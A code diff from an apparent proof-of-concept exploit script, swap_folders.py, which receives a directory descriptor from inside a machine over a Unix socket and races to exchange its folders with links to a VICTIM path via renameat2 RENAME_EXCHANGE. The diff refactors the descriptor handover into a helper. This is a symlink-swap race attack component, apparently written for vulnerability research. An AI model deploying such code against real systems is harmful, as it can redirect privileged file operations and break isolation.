@@ -3,25 +3,17 @@
 """swap_folders.py VICTIM: outside of a machine, waits at the socket "hand-over" for a folder of the machine's memory,
 and exchanges the folders in it for links to VICTIM and back, until there is a file "enough". Makes a file "swapping"
 when it has begun."""
-import array
 import ctypes
 import os
-import socket
 import sys
+
+from hand_over import receive
 
 PAIRS = 200
 RENAME_EXCHANGE = 2
 libc = ctypes.CDLL(None)
 
-listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-listener.bind("hand-over")
-listener.listen()
-print("listens", flush=True)
-task, _ = listener.accept()
-descriptors = array.array("i")
-_, ancillary, _, _ = task.recvmsg(1, socket.CMSG_SPACE(descriptors.itemsize))
-descriptors.frombytes(ancillary[0][2])
-folder = descriptors[0]
+(folder,) = receive(1)
 pairs = []
 for number in range(PAIRS):
     os.mkdir(f"d{number}", dir_fd=folder)
